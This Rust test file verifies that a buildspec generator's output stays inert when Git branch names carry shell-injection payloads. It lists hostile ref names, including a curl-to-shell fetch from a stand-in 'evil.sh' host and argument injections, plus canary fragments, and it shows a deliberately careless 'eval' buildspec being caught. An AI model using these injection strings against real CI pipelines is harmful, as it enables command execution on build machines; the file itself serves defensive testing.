//! Runs generated buildspecs with refs that a careless shell would act on (A9, A10): the text is
//! the same for all of them, they arrive whole, and none of them does anything.

use std::os::unix::fs::PermissionsExt as _;

use towline_buildspec::generate::{Common, Docker, Make, MakeLogin, Pack, Preset, generate};

use super::*;

/// INVARIANTS 2.4: refs that Git allows and shells do not forgive.
const EVIL: [&str; 23] = [
    "a$(curl${IFS}evil.sh|sh)",
    "x;id",
    "x`id`",
    "x&&id",
    "x|sh",
    "x'y",
    "x\"y",
    "x{a,b}",
    "x#y",
    "x%0a",
    "x<y>",
    "x=y",
    "${{github.token}}",
    "{{x}}",
    "!!python",
    "null",
    "yes",
    "@",
    "HEAD",
    "refs/heads/x",
    "-upload-pack=touch",
    "--help",
    "a\u{202e}b",
];

/// Pieces that random refs are made of. Whatever runs by mistake leaves a canary: where it ran, or
/// at `$CANARY`, where it stays when the build's folder is removed.
const PIECES: [&str; 30] = [
    "$(touch${IFS}canary)",
    "`touch${IFS}$CANARY`",
    ";touch${IFS}$CANARY;",
    "&&touch${IFS}canary",
    "||touch${IFS}$CANARY",
    "|tee${IFS}$CANARY",
    ">$CANARY",
    ">canary",
    "';touch${IFS}$CANARY;'",
    "\";touch${IFS}$CANARY;\"",
    "--output-file=canary",
    "'",
    "\"",
    "$HOME",
    "${PWD}",
    "$'\u{7}'",
    "#",
    "!",
    "%s",
    "{a,b}",
    "(",
    ")",
    "/",
    ".",
    ".lock",
    "@{",
    "\u{202e}",
    "\u{e9}",
    "-",
    "a b",
];

/// The rules of git-check-ref-format(1) for what follows `refs/heads/`.
fn is_legal(name: &str) -> bool {
    let forbidden =
        |character: char| character.is_ascii_control() || " ~^:?*[\\".contains(character);
    let component_is_legal =
        |part: &str| !part.is_empty() && !part.starts_with('.') && !part.ends_with(".lock");
    name.split('/').all(component_is_legal)
        && !name.contains(forbidden)
        && !name.contains("..")
        && !name.contains("@{")
        && !name.ends_with('.')
}

/// As many different refs, the same each time; made of pieces and of single characters.
fn random_refs(count: usize) -> Vec<String> {
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).unwrap()
    };
    let mut refs = Vec::new();
    while refs.len() < count {
        let mut name = String::new();
        for _ in 0..=next(6) {
            match next(3) {
                0 => name.push(char::from(u8::try_from(next(128)).unwrap())),
                _ => name.push_str(PIECES[next(PIECES.len())]),
            }
        }
        if is_legal(&name) && !refs.contains(&name) {
            refs.push(name);
        }
    }
    refs
}

/// The 23 refs of INVARIANTS and 200 random ones, all of them legal by Git's own word.
fn refs() -> Vec<String> {
    let refs: Vec<String> = EVIL
        .iter()
        .map(|name| (*name).to_owned())
        .chain(random_refs(200))
        .collect();
    for name in &refs {
        let legal = Command::new("git")
            .args(["check-ref-format", &format!("refs/heads/{name}")])
            .status()
            .unwrap();
        assert!(legal.success(), "{name:?}");
    }
    refs
}

/// What every tool is here: it writes down its arguments and what it finds in its environment,
/// looks for canaries when it is one that builds end with, and does the little that the commands
/// build on.
const TOOL: &str = r#"#!/bin/sh
name=${0##*/}
case " $* " in *' --password-stdin '*) read -r word && [ "$word" = PASSWORD ] || exit 1 ;; esac
printf '%s\0' "$name" "$@" "" "$GIT_REF" "$GIT_BRANCH" "$TITLE" '
' >> "RECORDS/$CODEBUILD_LOG_PATH"
case "$name $1" in 'docker logout' | 'docker image' | 'aws s3' | 'make ' | 'rm '*)
    find "${CODEBUILD_SRC_DIR%/*}" -name 'canary*' >> CANARIES/seen ;;
esac
case "$name $1" in
    'docker inspect') printf '%s\n' "$ECR_REGISTRY/$IMAGE_REPO@DIGEST" ;;
    'make version') echo '{}' ;;
    'towline pack') for word; do case $word in
        --output-file=*) printf DIGEST > "${word#*=}" ;;
    esac; done ;;
    'rm '*) exec /bin/rm "$@" ;;
esac
"#;

const TOOLS: [&str; 5] = ["docker", "aws", "make", "towline", "rm"];

const DIGEST: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";

/// A machine whose tools are stand-ins, `towline` included.
async fn world() -> World {
    let world = World::with(4, |config, dir| {
        let tools = dir.join("tools");
        let mut path = tools.clone().into_os_string();
        path.push(":");
        path.push(&config.machine.search_path);
        config.machine.search_path = path;
        config.towline_binary = tools.join("towline");
        config.keep = 1000;
    })
    .await;
    for folder in ["tools", "records", "canaries"] {
        fs::create_dir(world.path(folder)).unwrap();
    }
    let text = TOOL
        .replace("RECORDS", &world.path("records").display().to_string())
        .replace("CANARIES", &world.path("canaries").display().to_string())
        .replace("PASSWORD", PASSWORD)
        .replace("DIGEST", DIGEST);
    for tool in TOOLS {
        let path = world.path("tools").join(tool);
        fs::write(&path, &text).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    world
}

/// A preset, and the calls its build makes, one a line, with what stands for the values.
struct Case {
    common: Common,
    preset: Preset,
    calls: &'static str,
}

fn strings(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

fn pack() -> Case {
    Case {
        common: Common {
            test: strings(&["docker run \"$GIT_BRANCH\""]),
            ..Common::default()
        },
        preset: Preset::Pack(Pack::default()),
        calls: "docker [run] [<BRANCH>]
towline [pack] [--output-file=SCRATCH] [--repository=reg/acme/web] [--tag=t1] [--tag=v1.2] [--root=.] [--platform=linux/amd64] [--label=org.opencontainers.image.revision=<SHA>] [--label=org.opencontainers.image.source=<TITLE>] [--label=org.opencontainers.image.created=now] [--password-stdin]
rm [-f] [--] [SCRATCH]
",
    }
}

fn make() -> Case {
    Case {
        common: Common::default(),
        preset: Preset::Make(Make {
            build: strings(&["release", "publish"]),
            always: strings(&["clean"]),
            login: MakeLogin::Builtin,
        }),
        calls: "docker [login] [--username] [AWS] [--password-stdin] [reg]
make [release]
make [publish]
docker [inspect] [--format] [{{range .RepoDigests}}{{println .}}{{end}}] [reg/acme/web:t1]
make [clean]
docker [logout] [reg]
",
    }
}

fn docker() -> Case {
    Case {
        common: Common::default(),
        preset: Preset::Docker(Docker {
            arguments: vec![("GIT_BRANCH".into(), None)],
            ..Docker::default()
        }),
        calls: "docker [login] [--username] [AWS] [--password-stdin] [reg]
docker [buildx] [version]
docker [buildx] [build] [--load] [--provenance=false] [--sbom=false] [--file=Dockerfile] [--build-arg=GIT_BRANCH] [--label=org.opencontainers.image.revision=<SHA>] [--label=org.opencontainers.image.source=<TITLE>] [--label=org.opencontainers.image.created=now] [--tag=reg/acme/web:t1] [.]
docker [tag] [reg/acme/web:t1] [reg/acme/web:t1]
docker [push] [reg/acme/web:t1]
docker [tag] [reg/acme/web:t1] [reg/acme/web:v1.2]
docker [push] [reg/acme/web:v1.2]
docker [inspect] [--format] [{{range .RepoDigests}}{{println .}}{{end}}] [reg/acme/web:t1]
docker [logout] [reg]
docker [image] [rm] [reg/acme/web:t1]
docker [image] [rm] [reg/acme/web:v1.2]
",
    }
}

/// The definition's own text; in the second shell the values come from what the first wrote down.
fn inline() -> Case {
    let text = "version: 0.2
env: {shell: /bin/sh, exported-variables: [IMAGE_DIGEST]}
phases:
  build:
    commands:
      - docker build --build-arg=\"REF=$GIT_REF\" .
      - (exit 0); exit 0
      - '[ \"$GIT_REF\" = \"refs/heads/$GIT_BRANCH\" ] && export IMAGE_DIGEST=DIGEST'
      - make \"BRANCH=$GIT_BRANCH\" \"$TITLE\"
  post_build:
    commands:
      - aws s3 cp out \"s3://bucket/$GIT_BRANCH\"
";
    Case {
        common: Common::default(),
        preset: Preset::Given(text.replace("=DIGEST", &format!("={DIGEST}"))),
        calls: "docker [build] [--build-arg=REF=refs/heads/<BRANCH>] [.]
make [BRANCH=<BRANCH>] [<TITLE>]
aws [s3] [cp] [out] [s3://bucket/<BRANCH>]
",
    }
}

/// What start_builds passes, and two values worse than any of its own.
fn environment(world: &World, name: &str) -> Vec<(String, String)> {
    let values = [
        ("ECR_REGISTRY", "reg"),
        ("IMAGE_REPO", "acme/web"),
        ("IMAGE_TAG", "t1"),
        ("IMAGE_TAGS", "t1 v1.2"),
        ("GIT_SHA", world.commit.as_str()),
        ("GIT_REF", &format!("refs/heads/{name}")),
        ("GIT_BRANCH", name),
        ("SOURCE_URL", &title(name)),
        ("BUILD_NUMBER", "7"),
        ("CREATED_AT", "now"),
        ("TITLE", &title(name)),
        ("CANARY", &world.path("canaries/hit").display().to_string()),
    ];
    values
        .map(|(name, value)| (name.to_owned(), value.to_owned()))
        .into()
}

/// A title of several lines with the ref in it, as no ref could be.
fn title(name: &str) -> String {
    format!("{name} * ~ \\\n{name}: $(touch \"$CANARY\")")
}

/// What the tools of a build wrote down, one call a line.
fn calls(world: &World, number: u32, name: &str) -> String {
    let record = fs::read(world.path("records").join(attempt(number).as_str())).unwrap();
    let record = String::from_utf8(record).unwrap();
    let surroundings = format!("\0\0refs/heads/{name}\0{name}\0{}\0\n\0", title(name));
    assert_eq!(
        record.matches("\0\n\0").count(),
        record.matches(&surroundings).count()
    );
    let call = |call: &str| {
        let words: Vec<String> = call.split('\0').map(hide_scratch).collect();
        format!("{} [{}]\n", words[0], words[1..].join("] ["))
    };
    record.split_terminator(&surroundings).map(call).collect()
}

/// The name of the scratch file differs from run to run.
fn hide_scratch(word: &str) -> String {
    match word.split_once("/tmp.") {
        Some((before, name)) if name.bytes().all(|byte| byte.is_ascii_alphanumeric()) => {
            let option = before.split_inclusive('=').next();
            let option = option.filter(|option| option.ends_with('='));
            format!("{}SCRATCH", option.unwrap_or_default())
        }
        _ => word.to_owned(),
    }
}

/// What was left by anything that ran and should not have.
fn canaries(world: &World) -> String {
    let seen = fs::read_to_string(world.path("canaries/seen")).unwrap();
    let find = Command::new("find")
        .arg(world.dir.path())
        .args(["-name", "canary*", "-o", "-name", "hit"])
        .output()
        .unwrap();
    seen + &String::from_utf8(find.stdout).unwrap()
}

async fn check(case: fn() -> Case, refs: &[String]) {
    let world = world().await;
    let text = |case: Case| generate(&case.common, &case.preset).unwrap();
    let before = text(case());
    let mut builds = Vec::new();
    for (number, name) in (1..).zip(refs) {
        let spec = text(case());
        assert_eq!(spec, before, "the text is the same for {name:?}");
        let mut request = world.request(number, &spec);
        request.environment = environment(&world, name);
        builds.push((number, name, world.runner.start(request).await.unwrap()));
    }
    for (number, name, build) in builds {
        let report = world.end(&build).await;
        let log = world.log(&build).await;
        assert_eq!(report.status, BuildStatus::Succeeded, "{name:?}: {log}");
        let expected = case()
            .calls
            .replace("<SHA>", world.commit.as_str())
            .replace("<TITLE>", &title(name))
            .replace("<BRANCH>", name);
        assert_eq!(calls(&world, number, name), expected, "{name:?}: {log}");
        let exported = world.runner.exported_variables(&build).await.unwrap();
        let digest = ("IMAGE_DIGEST".to_owned(), DIGEST.to_owned());
        assert_eq!(exported.unwrap(), [digest], "{name:?}");
    }
    assert_eq!(canaries(&world), "");
}

#[tokio::test]
async fn a9_a10_all_refs_do_nothing_to_a_pack_build() {
    check(pack, &refs()).await;
}

#[tokio::test]
async fn a9_a10_refs_do_nothing_to_builds_of_the_other_presets() {
    let refs: Vec<String> = refs().into_iter().step_by(7).collect();
    for case in [make, docker, inline] {
        check(case, &refs).await;
    }
}

/// Were a value ever taken for a command, the checks above would fail.
#[tokio::test]
async fn a_careless_buildspec_is_found_out() {
    for (name, found) in [
        ("x;touch${IFS}canary", "src/canary"),
        ("x>$CANARY", "canaries/hit"),
    ] {
        let world = world().await;
        let spec = "version: 0.2
phases: {build: {commands: ['eval echo $GIT_BRANCH', make]}}
";
        let mut request = world.request(1, spec);
        request.environment = environment(&world, name);
        let build = world.runner.start(request).await.unwrap();
        assert_eq!(world.end(&build).await.status, BuildStatus::Succeeded);
        let canaries = canaries(&world);
        assert!(canaries.contains(found), "{name}: {canaries:?}");
    }
}
